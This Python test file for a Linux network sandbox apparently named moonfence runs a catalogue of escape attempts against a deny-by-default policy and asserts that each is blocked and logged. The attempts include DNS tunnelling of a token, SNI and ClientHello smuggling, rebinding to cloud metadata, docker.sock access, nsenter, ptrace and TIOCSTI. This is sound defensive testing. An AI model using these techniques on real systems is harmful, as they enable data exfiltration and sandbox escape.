# SPDX-License-Identifier: Apache-2.0
"""Ways around a fence, tried from inside `moonfence run` on Linux; prints a table of what became of each.

An attempt is code that prints REACHED when it got what the policy denies. It passes when it printed no REACHED, no server
saw the attempt's token, it came to an end by itself, and (where the attempt crosses the network) an event tells of it.
"""
import collections
import os
import sys

from scenario import NOBODY, PYTHON, Scenario, main, slow

# Allows one name; everything else is denied, so that whatever gets through is a hole.
POLICY = """
return {
  name = "bypass",
  dns = function(q)
    if q:under "allowed.example" or q:is "cdn-good.example" or q:glob "rebind*.example" or q:is "echo.example" then
      return allow()
    end
    return deny { reason = "not on the list", rcode = "NXDOMAIN" }
  end,
  connect = function(c)
    if c:to_private() then return deny "private address" end
    if not c.host then return deny "no name led here" end
    if c.proto == "udp" then return deny "no UDP" end
    if c.port ~= 80 and c.port ~= 443 then return deny "only the web" end
    if c:under "allowed.example" or c:is "cdn-good.example" then return allow() end
    return deny "not on the list"
  end,
  sni = function(s)
    if s.ech then return deny "encrypted ClientHello" end
    if not s:matches_dns() then return deny "server name does not belong here" end
    if s:under "allowed.example" or s:is "cdn-good.example" then return allow() end
    return deny "not on the list"
  end,
}
"""

PRELUDE = r"""
import ctypes, errno, os, socket, ssl, struct, subprocess, sys, time
TOKEN = sys.argv[1].encode()
def http(addr, port=80, family=None, host="x"):
    family = family or (socket.AF_INET6 if ":" in addr else socket.AF_INET)
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(60)
    s.connect((addr, port))
    s.sendall(b"GET /%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (TOKEN, host.encode()))
    d = b""
    while b := s.recv(4096):
        d += b
    print("REACHED" if b"server=" in d else d[:60])
def tls(addr, name, port=443, hello=None, **kw):
    s = socket.create_connection((addr, port), 60)
    c = ssl.create_default_context()
    c.check_hostname = False
    c.verify_mode = ssl.CERT_NONE
    for k, v in kw.items():
        setattr(c, k, v)
    t = c.wrap_socket(s, server_hostname=name)
    t.sendall(b"GET /%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (TOKEN, (name or "x").encode()))
    d = b""
    while b := t.recv(4096):
        d += b
    print("REACHED" if b"server=" in d else d[:60])
def hello_bytes(name, addr=None):
    # A ClientHello as OpenSSL would send it.
    c = ssl.create_default_context()
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    c.check_hostname = False
    c.verify_mode = ssl.CERT_NONE
    t = c.wrap_bio(i, o, server_hostname=name)
    try:
        t.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return o.read()
def send_hello(addr, chunks, port=443):
    # REACHED when a ServerHello (handshake record) comes back.
    s = socket.create_connection((addr, port), 60)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for c in chunks:
        s.sendall(c)
    d = s.recv(100)
    print("REACHED" if d[:1] == b"\x16" else d[:20])
def with_ech(h, name):
    # The hello with an encrypted_client_hello extension (outer) before its server_name.
    name = name.encode()
    i = h.index(struct.pack(">HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name)
    ext = b"\xfe\x0d" + struct.pack(">H", 10 + 32 + 160) + b"\0\0\1\0\1\7" + struct.pack(">H", 32) + os.urandom(32) + \
        struct.pack(">H", 160) + os.urandom(160)
    j = i - 2
    n = struct.unpack(">H", h[j:i])[0]
    b = h[:j] + struct.pack(">H", n + len(ext)) + ext + h[i:]
    return b[:3] + struct.pack(">H", len(b) - 5) + b[5:6] + struct.pack(">I", len(b) - 9)[1:] + b[9:]
def udp(addr, port, data=None, family=None):
    family = family or (socket.AF_INET6 if ":" in addr else socket.AF_INET)
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(60)
    s.connect((addr, port))
    s.send(TOKEN + (data or b""))
    print("REACHED" if s.recv(2000) else "empty")
def query(name, qtype=1, server=("9.9.9.9", 53), tcp=False):
    q = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(p)]) + p for p in name.encode().split(b".") if p) + \
        b"\0" + struct.pack(">HH", qtype, 1)
    if tcp:
        s = socket.create_connection(server, 60)
        s.sendall(struct.pack(">H", len(q)) + q)
        return s.recv(4096)[2:]
    s = socket.socket(socket.AF_INET6 if ":" in server[0] else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(60)
    s.sendto(q, server)
    return s.recv(4096)
def rcode(answer):
    return answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
def resolve(name):
    return socket.getaddrinfo(name, None)
libc = ctypes.CDLL(None, use_errno=True)
"""

Attempt = collections.namedtuple("Attempt", "line what code event argv")


def py(line, what, code, event=None):
    """@event: predicate over events, or None where nothing crosses the network."""
    return Attempt(line, what, code, event, None)


def sh(line, what, code, event=None):
    return Attempt(line, what, None, event, ["bash", "-c", code])


def denied(type_=None, **fields):
    def check(events):
        return any((type_ is None or e["type"] == type_) and e.get("policy", {}).get("decision") == "deny" and
                   all(e.get(k) == v for k, v in fields.items()) for e in events)
    return check


NET = denied("net_connect")
DNS = denied("dns_query")
TLS = denied()


def refused(events):
    """The fence itself refused something, without a policy."""
    return any(e["type"] == "capture_refused" for e in events)


CURL = "curl -sk --max-time 60 -o /dev/null -w '%{http_code} %{errormsg}\\n'"

ATTEMPTS = [
    sh(1, "proxy variables unset, --noproxy '*'",
       f"env -u http_proxy -u https_proxy {CURL} --noproxy '*' http://11.0.0.81/$1 | sed s/^200/REACHED/", NET),
    py(2, "bare IPv4 address", "http('11.0.0.81')", NET),
    py(2, "bare IPv6 address", "http('2a0f:77::81')", NET),
    py(3, "IPv4-mapped IPv6 address", "http('::ffff:11.0.0.81')", NET),
    py(3, "NAT64 64:ff9b::/96 of a private address", "http('64:ff9b::a01:203')", NET),
    py(3, "6to4 of a private address", "http('2002:a01:203::1')", NET),
    py(3, "link-local address with a scope", "http('fe80::1')", None),
    sh(4, "odd spellings: 0x0b000051, decimal, short",
       f"for u in 0x0b000051 184549457 11.81 013.0.0.81; do {CURL} http://$u/$1 | sed s/^200/REACHED/; done", NET),
    py(4, "0.0.0.0 and 127.1 are the session's own",
       "for a in ('0.0.0.0', '127.1'):\n  try: http(a)\n  except ConnectionRefusedError: print('refused')"),
    # The answer leaves such addresses out, so they are tried as they are, too.
    *[py(5, f"allowed name that leads to {what}",
         f"try: print(resolve('{name}')[0][4][0])\nexcept OSError as e: print(e)\nhttp('{addr}', host='{name}')", NET)
      for name, addr, what in (("rebind-lan.example", "10.1.2.3", "a private address"),
                               ("rebind-meta.example", "169.254.169.254", "cloud metadata"),
                               ("rebind-mapped.example", "::ffff:10.1.2.3", "a mapped private address"),
                               ("rebind-nat64.example", "64:ff9b::a01:203", "a NAT64 private address"))],
    py(5, "allowed name that leads to loopback: the session's own, not the host's",
       "try: print(resolve('rebind.example')[0][4][0])\nexcept OSError as e: print(e)\n"
       "try: http('127.0.0.1', host='rebind.example')\nexcept ConnectionRefusedError: print('refused')"),
    py(5, "mixed answer: the private one of two addresses",
       "[x for x in resolve('rebind-mix.example')]\nhttp('10.1.2.3', host='rebind-mix.example')", NET),
    py(6, "DNS over TCP to another resolver", "a = query('denied.example', tcp=True); print(rcode(a)); "
       "print('REACHED' if rcode(a)[1] else '')", DNS),
    py(6, "DNS straight to a public resolver's address", "a = query('denied.example', server=('8.8.8.8', 53)); "
       "print('REACHED' if rcode(a)[1] else '')", DNS),
    py(6, "DNS over TLS, port 853", "tls('11.0.0.66', 'allowed.example', 853)", NET),
    py(6, "DNS over QUIC, UDP 853", "udp('11.0.0.66', 853)", NET),
    py(6, "DNS over HTTPS by address", "tls('11.0.0.81', 'allowed.example')", TLS),
    py(6, "mDNS, multicast", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n"
       "s.sendto(TOKEN, ('224.0.0.251', 5353))\ntry: print('REACHED', s.recv(100))\nexcept OSError as e: print(e)", None),
    py(7, "data in labels of a denied name", "a = query(TOKEN.hex()[:40] + '.tunnel.example'); print(rcode(a)); "
       "print('REACHED' if rcode(a)[0] == 0 else '')", DNS),
    py(7, "TXT and NULL questions for a denied name", "for t in (16, 10):\n  a = query('denied.example', t)\n"
       "  print('REACHED' if rcode(a)[1] else rcode(a))", DNS),
    py(7, "HTTPS record of a denied name", "a = query('api.vendor.example', 65); print('REACHED' if rcode(a)[1] else '')",
       DNS),
    py(8, "allowed SNI to a foreign address", "tls('11.0.0.81', 'allowed.example')", TLS),
    py(8, "denied SNI to an allowed name's address", "r = resolve('allowed.example')[0][4][0]; tls('11.0.0.80', 'denied.example')",
       TLS),
    py(8, "no SNI", "resolve('allowed.example'); tls('11.0.0.80', None)", TLS),
    py(8, "an address as SNI", "resolve('allowed.example')\nh = hello_bytes('aaaa.aaa.aaa')\n"
       "send_hello('11.0.0.80', [h.replace(b'aaaa.aaa.aaa', b'11.00.0.0.81')])", TLS),
    py(8, "NUL in the SNI", "resolve('allowed.example')\nh = hello_bytes('allowed.exampleX.denied')\n"
       "send_hello('11.0.0.80', [h.replace(b'allowed.exampleX.denied', b'allowed.example\\0.denied')])", TLS),
    py(8, "denied name in upper case, with a trailing dot",
       "resolve('allowed.example')\nh = hello_bytes('denied-exampleX')\n"
       "send_hello('11.0.0.80', [h.replace(b'denied-exampleX', b'DENIED.example.')])", TLS),
    py(9, "CONNECT through an allowed host",
       "resolve('allowed.example'); s = socket.create_connection(('11.0.0.80', 80), 60)\n"
       "s.sendall(b'CONNECT 11.0.0.81:443 HTTP/1.1\\r\\nHost: 11.0.0.81:443\\r\\n\\r\\n'); d = s.recv(200)\n"
       "print('REACHED' if b' 200 ' in d else d[:40])"),
    py(10, "Host header of a denied name to an allowed address (shared front end)",
       "resolve('cdn-good.example')\nimport json\nhttp('11.0.0.90', host='cdn-bad.example')", NET),
    py(11, "ClientHello of a denied name in one-byte segments",
       "resolve('allowed.example')\nh = hello_bytes('denied.example')\nsend_hello('11.0.0.80', [bytes([b]) for b in h])", TLS),
    py(11, "ClientHello of a denied name in one-byte records",
       "resolve('allowed.example')\nh = hello_bytes('denied.example')[5:]\n"
       "send_hello('11.0.0.80', [b''.join(b'\\x16\\3\\1\\0\\1' + bytes([b]) for b in h)])", TLS),
    py(11, "ClientHello longer than 16 KiB",
       "resolve('allowed.example')\nb = b'\\1' + struct.pack('>I', 40000)[1:] + b'\\3\\3' + bytes(39998)\n"
       "send_hello('11.0.0.80', [b''.join(b'\\x16\\3\\1' + struct.pack('>H', len(b[i:i + 16000])) + b[i:i + 16000] "
       "for i in range(0, len(b), 16000))])", TLS),
    py(11, "two server_name extensions",
       "resolve('allowed.example')\nh = hello_bytes('allowed.example')\n"
       "i = h.index(b'\\0\\0\\0\\x14\\0\\x12\\0\\0\\x0fallowed.example')\n"
       "e2 = b'\\0\\0\\0\\x13\\0\\x11\\0\\0\\x0edenied.example'\n"
       "j = i - 2\nn = struct.unpack('>H', h[j:i])[0]\n"
       "b = h[:j] + struct.pack('>H', n + len(e2)) + e2 + h[i:]\n"
       "b = b[:3] + struct.pack('>H', len(b) - 5) + b[5:6] + struct.pack('>I', len(b) - 9)[1:] + b[9:]\n"
       "send_hello('11.0.0.80', [b])", TLS),
    py(12, "Encrypted ClientHello under a provider's public name",
       "resolve('allowed.example')\nsend_hello('11.0.0.80', [with_ech(hello_bytes('public-nm.example'), 'public-nm.example')])",
       TLS),
    py(13, "QUIC, UDP 443, to an allowed name", "resolve('allowed.example'); udp('11.0.0.66', 443)", NET),
    py(14, "another protocol on 443 of a foreign address",
       "s = socket.create_connection(('11.0.0.66', 443), 60); s.sendall(b'SSH-2.0-' + TOKEN + b'\\r\\n'); "
       "print('REACHED' if s.recv(100) else 'closed')", NET),
    py(16, "the listener's own port, by loopback and by other addresses",
       "import re\nports = set()\nfor f in ('/proc/net/tcp', '/proc/net/tcp6'):\n"
       "  for l in open(f).read().splitlines()[1:]:\n    p = l.split()\n"
       "    if p[3] == '0A': ports.add(int(p[1].split(':')[1], 16))\nprint(ports)\n"
       "for p in ports:\n  for a in ('127.0.0.1', '11.0.0.81'):\n"
       "    try: http(a, p)\n    except OSError as e: print(e)"),
    sh(17, "Unix sockets of name services, D-Bus, Docker",
       "for s in /run/nscd/socket /var/run/nscd/socket /run/systemd/resolve/io.systemd.Resolve /run/dbus/system_bus_socket "
       "/var/run/docker.sock /run/containerd/containerd.sock /run/moonfence-test/outside.sock; do "
       "python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print(\"REACHED\", "
       "sys.argv[1])' $s 2>/dev/null; done; true"),
    py(17, "an abstract Unix socket of the host",
       "s = socket.socket(socket.AF_UNIX)\ntry: s.connect('\\0moonfence-outside'); print('REACHED')\n"
       "except OSError as e: print(e)"),
    py(17, "a socket inherited from outside",
       "import stat\nfor fd in range(3, 64):\n  try:\n    if stat.S_ISSOCK(os.fstat(fd).st_mode): print('REACHED', fd)\n"
       "  except OSError: pass"),
    py(18, "io_uring", "r = libc.syscall(425, 8, ctypes.create_string_buffer(200)); print('REACHED' if r >= 0 else "
       "errno.errorcode[ctypes.get_errno()])", refused),
    py(18, "AF_VSOCK, AF_PACKET, raw sockets",
       "for a in ((40, socket.SOCK_STREAM, 0), (17, socket.SOCK_RAW, 0), (2, socket.SOCK_RAW, 255), (2, socket.SOCK_RAW, 1)):\n"
       "  try: socket.socket(*a); print('REACHED', a)\n  except OSError as e: print(e)", refused),
    py(18, "x32 system calls", "r = libc.syscall(0x40000000 + 41, 40, 1, 0); "
       "print('REACHED' if r >= 0 else errno.errorcode[ctypes.get_errno()])"),
    sh(19, "change routes, addresses, rules inside",
       "ip link add d0 type dummy 2>/dev/null && echo REACHED; ip route add 11.0.0.0/8 dev lo 2>/dev/null && echo REACHED; "
       "ip link set lo down 2>/dev/null && echo REACHED; nft flush ruleset 2>/dev/null && echo REACHED; "
       "ip tuntap add mode tun 2>/dev/null && echo REACHED; true"),
    sh(19, "capabilities by a nested user namespace",
       "unshare -Ur sh -c 'ip link set lo down && echo REACHED; nft flush ruleset && echo REACHED; "
       "ip route add unreachable 11.0.0.0/8 && echo REACHED' 2>/dev/null; true"),
    sh(19, "enter the host's namespaces",
       "for p in 1 $PPID $(cut -d' ' -f4 /proc/$PPID/stat); do nsenter -t $p -n true 2>/dev/null && "
       "[ \"$(readlink /proc/$p/ns/net)\" != \"$(readlink /proc/self/ns/net)\" ] && echo REACHED $p; "
       "nsenter -t $p -U -n ip link show eth0 2>/dev/null | grep -q eth0 && echo REACHED eth0; done; true"),
    py(20, "UDP to any port", "udp('11.0.0.7', 3478)", NET),
    sh(20, "ICMP echo", "ping -c1 -W3 11.0.0.7 2>/dev/null | grep -q '1 received' && echo REACHED; true", refused),
    py(20, "SCTP, DCCP, UDP-Lite, MPTCP",
       "for t, p in ((1, 132), (6, 33), (2, 136), (1, 262)):\n  try:\n"
       "    s = socket.socket(2, t, p); s.settimeout(60); s.connect(('11.0.0.81', 80)); s.send(b'GET /%s HTTP/1.0\\r\\n\\r\\n' % TOKEN)\n"
       "    d = s.recv(300); print('REACHED' if b'server=' in d else d[:40])\n  except OSError as e: print(e)"),
    py(21, "data in the SYN (TCP Fast Open)",
       "s = socket.socket(); s.settimeout(60)\ntry:\n  s.sendto(b'GET /%s HTTP/1.0\\r\\n\\r\\n' % TOKEN, 0x20000000, ('11.0.0.81', 80))\n"
       "  d = s.recv(300); print('REACHED' if b'server=' in d else d[:40])\nexcept OSError as e: print(e)", NET),
    py(21, "IP options: source routing",
       "s = socket.socket(); s.settimeout(60)\ntry:\n  s.setsockopt(0, 4, bytes([131, 7, 4, 11, 0, 0, 81, 0]))\n"
       "  s.connect(('11.0.0.80', 80)); print('connected')\n  s.sendall(b'GET /%s HTTP/1.0\\r\\n\\r\\n' % TOKEN); d = s.recv(300)\n"
       "  print('REACHED' if b'server=' in d else d[:40])\nexcept OSError as e: print(e)"),
    py(28, "moonfence's own process: signals, memory, files",
       "import signal\nfor p in [d for d in os.listdir('/proc') if d.isdigit()]:\n  try:\n"
       "    exe = os.readlink(f'/proc/{p}/exe')\n  except OSError: continue\n"
       "  if not exe.endswith('moonfence'): continue\n"
       "  for f in ('mem', 'environ', 'fd/3'):\n    try: open(f'/proc/{p}/{f}', 'rb').read(1); print('REACHED', p, f)\n"
       "    except OSError: pass\n"
       "  if libc.ptrace(16, int(p), 0, 0) == 0: print('REACHED ptrace', p)"),
    py(29, "a child forked and orphaned before it connects",
       "r, w = os.pipe()\nif os.fork() == 0:\n  os.setsid()\n  if os.fork(): os._exit(0)\n  try: http('11.0.0.81')\n"
       "  except OSError as e: print(e)\n  sys.stdout.flush()\n  os._exit(0)\nos.wait()\nos.close(w)\nos.read(r, 1)", NET),
    py(18, "typed into the terminal: TIOCSTI",
       "import fcntl\ntry:\n  fcntl.ioctl(0, 0x5412, b'x'); print('REACHED')\n"
       "except OSError as e: print(e)", refused),
]


class Bypass:
    table = []

    def attempt(self, index, a):
        token = f"bypass-{type(self).__name__.lower()}-{index}"
        argv = a.argv + ["sh", token] if a.argv else [PYTHON, "-c", PRELUDE + a.code, token]
        r = self.fence(argv, policy=self.lab.path("bypass.lua"))
        reached = "REACHED" in r.out
        leaked = token in self.lab.web_log() or any(token.encode().hex() in s["data"] for s in self.lab.seen())
        seen = a.event is None or a.event(r.events)
        verdict = "REACHED" if reached or leaked else "blocked" if seen else "blocked, no event"
        return r, verdict

    def test_every_attempt_fails_and_is_seen(self):
        self.lab.write("bypass.lua", POLICY)
        rows = []
        failures = []
        for index, a in enumerate(ATTEMPTS):
            r, verdict = self.attempt(index, a)
            rows.append((a.line, a.what, verdict, "" if a.event is None else "yes" if a.event(r.events) else "NO"))
            if verdict != "blocked":
                failures.append(f"#{a.line} {a.what}: {verdict}\n{r}")
        # What must go through all the same: a fence that blocks everything proves nothing.
        r = self.fence(["curl", "-sS", "--max-time", "90", "https://allowed.example/"], policy=self.lab.path("bypass.lua"))
        if "server=web" not in r.out:
            failures.append(f"control: allowed.example is not reachable\n{r}")
        print(f"\n| # | attempt ({type(self).__name__}) | result | event |\n|---|---|---|---|")
        for row in rows:
            print("| %s | %s | %s | %s |" % row)
        print(f"{sum(1 for r in rows if r[2] == 'blocked')} of {len(rows)} attempts blocked\n", flush=True)
        self.assertEqual(failures, [], "\n\n".join(failures))


class AsRoot(Bypass, Scenario):
    user = None


@slow
class AsUser(Bypass, Scenario):
    user = NOBODY


class TunAsUser(Bypass, Scenario):
    user = NOBODY
    backend = "tun"


@slow
class TunAsRoot(Bypass, Scenario):
    user = None
    backend = "tun"
    more = ("--tun-queues", "4")


if __name__ == "__main__":
    main()
